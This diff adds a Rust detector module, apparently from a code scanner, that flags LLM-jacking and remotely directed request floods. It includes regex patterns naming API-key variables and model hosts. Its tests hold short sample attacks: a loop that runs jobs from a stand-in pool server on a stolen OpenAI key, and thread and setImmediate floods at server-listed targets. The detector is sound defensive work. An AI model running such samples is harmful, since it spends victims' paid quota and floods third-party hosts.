@@ -1,0 +1,196 @@
+//! Work a server hands out, done on the user's resources, in every
+//! language (read at token level, like [`super::sdk`]):
+//!
+//! * **LLM-jacking**: a loop that never ends takes prompts (`messages`,
+//!   `prompt`) from a job server and runs them with the user's model API
+//!   keys (`OPENAI_API_KEY`, `api.anthropic.com`, …);
+//! * **request floods**: requests or datagrams fanned out without bound
+//!   (dozens of threads per target, a self-rescheduling `setImmediate`
+//!   send) at targets listed by a server.
+//!
+//! Both become a send tagged [`Tag::RemoteJobs`] (rule SK-RES-005).
+
+use super::indicators::{URL_RE, is_local_host, is_private_host, url_host};
+use super::{Sink, Src};
+use crate::evidence::{Evidence, Op, Tag};
+use crate::ssl::vocab::{ActType as A, ResourceScope as R};
+use regex::Regex;
+use std::sync::LazyLock;
+
+/// Model API hosts: the user's paid quota is spent there.
+const LLM_HOSTS: &[&str] = &[
+    "api.openai.com",
+    "api.anthropic.com",
+    "api.groq.com",
+    "openrouter.ai",
+    "generativelanguage.googleapis.com",
+    "api.mistral.ai",
+    "api.together.xyz",
+    "api.deepseek.com",
+    "api.cohere.ai",
+    "api.cohere.com",
+    "api.x.ai",
+    "api.fireworks.ai",
+    "api.perplexity.ai",
+];
+
+static LLM_KEY: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(
+        r"\b(OPENAI|ANTHROPIC|GROQ|OPENROUTER|GEMINI|GOOGLE_AI|MISTRAL|TOGETHER|DEEPSEEK|COHERE|XAI|FIREWORKS|PERPLEXITY)_API_KEY\b",
+    )
+});
+/// A loop with no exit condition.
+static FOREVER: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(
+        r"(?m)\bwhile\s*\(?\s*(True|true|1)\s*\)?\s*[:{]|\bfor\s*\(\s*;\s*;\s*\)|^\s*for\s*\{|\bloop\s*\{|\bwhile\s+(true|:)\s*;\s*do\b|\bsetInterval\s*\(",
+    )
+});
+/// The prompt or model comes from a received object, not from the code.
+static JOB_FIELDS: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(
+        r#"\[\s*["'](messages|prompt)["']\s*\]|\.get\(\s*["'](messages|prompt|model|max_tokens)["']|\b[a-z]\w*\.(messages|prompt)\s*[,}\)]"#,
+    )
+});
+/// A path or host that hands out work.
+static JOBISH: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(r"(?i)(job|task|queue|work|assign|pool|lease|target|campaign|/raw/)")
+});
+/// `range(200)` / `i < 512`: a fan-out count.
+static FANOUT: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(r"\brange\(\s*(\d{2,6})\s*\)|\b[a-z]\w*\s*<\s*\(?[^;\n]{0,30}?\b(\d{2,6})\)?\s*;")
+});
+/// What a fan-out starts.
+static SPAWN: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(
+        r"\bThread\(|\bProcess\(|urlopen\(|requests\.(get|post)\(|\.submit\(|\bfetch\(|\.request\(|setImmediate\(|\bgo func\b|\bgo \w+\(",
+    )
+});
+/// `setImmediate(f)` / `process.nextTick(f)`: a function that schedules
+/// itself again runs forever.
+static RESCHEDULE: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(r"\b(?:setImmediate|process\.nextTick)\(\s*([A-Za-z_]\w*)\s*\)")
+});
+static SENDS: LazyLock<Regex> = LazyLock::new(|| {
+    crate::rx::re(r"\.request\(|\.send\(|\bfetch\(|sendto\(|urlopen\(")
+});
+
+/// Fan-outs smaller than this are ordinary concurrency.
+const MIN_FANOUT: u32 = 50;
+
+/// Fixed remote URLs in the code: (start, end, url, host).
+fn remote_urls(text: &str) -> Vec<(usize, usize, &str, String)> {
+    URL_RE
+        .find_iter(text)
+        .filter_map(|m| {
+            let host = url_host(m.as_str())?;
+            (!is_local_host(&host) && !is_private_host(&host))
+                .then(|| (m.start(), m.end(), m.as_str(), host))
+        })
+        .collect()
+}
+
+fn llm_host(h: &str) -> bool {
+    LLM_HOSTS.iter().any(|l| h == *l || h.ends_with(&format!(".{l}")))
+}
+
+/// Adds the evidence of server-steered work in `src`.
+pub fn scan(src: &Src, sink: &mut Sink) {
+    let text = src.text;
+    let urls = remote_urls(text);
+    if urls.is_empty() {
+        return;
+    }
+    let server = urls
+        .iter()
+        .find(|u| !llm_host(&u.3) && JOBISH.is_match(u.2))
+        .or_else(|| urls.iter().find(|u| !llm_host(&u.3)));
+    let Some((start, end, url, host)) = server else {
+        return;
+    };
+    let forever = FOREVER.is_match(text);
+    let uses_llm = LLM_KEY.is_match(text) || urls.iter().any(|u| llm_host(&u.3));
+    if forever && uses_llm && JOBISH.is_match(url) && JOB_FIELDS.is_match(text) {
+        let ev = Evidence::new(Op::NetSend, A::Transfer, R::Network, *url)
+            .tag(Tag::RemoteJobs)
+            .instrument("model API")
+            .object(format!(
+                "the user's model API keys run prompts handed out by {host}, in a loop that never ends (LLM-jacking)"
+            ));
+        sink.push(src.at(ev, *start, *end, "code"));
+    }
+    if let Some((at, what)) = flood(text, forever) {
+        let ev = Evidence::new(Op::NetSend, A::Transfer, R::Network, *url)
+            .tag(Tag::RemoteJobs)
+            .instrument("request flood")
+            .object(format!("{what} at targets listed by {host}"));
+        let line_end = text[at..].find('\n').map_or(text.len(), |n| at + n);
+        sink.push(src.at(ev, at, line_end, "code"));
+    }
+}
+
+/// Where requests are fanned out without bound, and how.
+fn flood(text: &str, forever: bool) -> Option<(usize, String)> {
+    if forever {
+        for c in FANOUT.captures_iter(text) {
+            let n: u32 = c
+                .get(1)
+                .or_else(|| c.get(2))
+                .and_then(|m| m.as_str().parse().ok())
+                .unwrap_or(0);
+            let all = c.get(0)?;
+            let after = crate::text::slice(text, all.end(), all.end() + 300);
+            if n >= MIN_FANOUT && SPAWN.is_match(after) {
+                return Some((all.start(), format!("{n} requests per target, forever")));
+            }
+        }
+    }
+    for c in RESCHEDULE.captures_iter(text) {
+        let name = c.get(1)?.as_str();
+        let defined = text.contains(&format!("function {name}("))
+            || text.contains(&format!("function {name} ("));
+        if defined && SENDS.is_match(text) {
+            return Some((
+                c.get(0)?.start(),
+                "requests sent back to back without end".to_string(),
+            ));
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::evidence::Origin;
+
+    fn run(path: &str, text: &str) -> Vec<Evidence> {
+        let mut sink = Sink::default();
+        scan(&Src::new(path, text, Origin::Script), &mut sink);
+        sink.items
+    }
+
+    const JACK: &str = "POOL = 'https://pool.warm.example/api/jobs'\nkey = os.environ['OPENAI_API_KEY']\nwhile True:\n    for j in post(POOL, {})['jobs']:\n        out = post('https://api.openai.com/v1/chat/completions', {'messages': j['messages']}, key)\n        post(POOL, out)\n    time.sleep(1)\n";
+
+    #[test]
+    fn llm_jacking_fires_and_a_chat_bot_does_not() {
+        let e = run("w.py", JACK);
+        assert_eq!(e.len(), 1);
+        assert!(e[0].has(Tag::RemoteJobs) && e[0].object.contains("LLM-jacking"));
+        // A bot that polls its chat and answers with the user's key: the
+        // prompt is its own, the server hands out no jobs.
+        let bot = "key = os.environ['OPENAI_API_KEY']\nwhile True:\n    u = get('https://api.telegram.org/bot' + T + '/getUpdates')\n    r = post('https://api.openai.com/v1/chat/completions', {'messages': [{'role': 'user', 'content': u}]})\n    time.sleep(2)\n";
+        assert!(run("b.py", bot).is_empty());
+    }
+
+    #[test]
+    fn floods_fire_and_bounded_concurrency_does_not() {
+        let py = "LIST = 'https://pastebin.com/raw/abc'\nwhile True:\n    for u in urlopen(LIST).read().split():\n        for _ in range(200):\n            threading.Thread(target=hit, args=(u,)).start()\n    time.sleep(1)\n";
+        let e = run("r.py", py);
+        assert!(e[0].has(Tag::RemoteJobs) && e[0].object.contains("200 requests per target"));
+        let js = "const M = 'https://mesh.example/v1/assign';\nfunction hammer(t) { const go = () => lib.request(t).end(); for (let i = 0; i < 512; i++) setImmediate(function loop() { go(); setImmediate(loop); }); }\n";
+        assert!(!run("p.js", js).is_empty());
+        // A checker with a small pool of workers, run once.
+        let ok = "URL = 'https://status.example/api/targets'\nfor u in urlopen(URL).read().split():\n    for _ in range(4):\n        threading.Thread(target=check, args=(u,)).start()\n";
+        assert!(run("c.py", ok).is_empty());
+    }
+}
